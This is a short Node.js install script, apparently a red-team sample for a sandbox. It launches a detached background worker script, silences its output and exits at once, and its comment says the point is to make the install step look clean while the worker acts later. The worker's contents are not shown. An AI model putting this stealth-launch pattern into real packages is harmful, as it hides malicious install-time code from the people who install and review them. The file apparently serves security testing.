// HARMLESS red-team sample (fumehood sandbox only): starts a detached, unref'd worker and exits at once,
// so the install script looks clean; the worker does its work later (see worker.js).
'use strict';
const { spawn } = require('child_process'), path = require('path');
try {
  const c = spawn(process.execPath, [path.join(__dirname, 'worker.js')], { detached: true, stdio: 'ignore', cwd: '/tmp' });
  c.unref();
} catch (e) {}
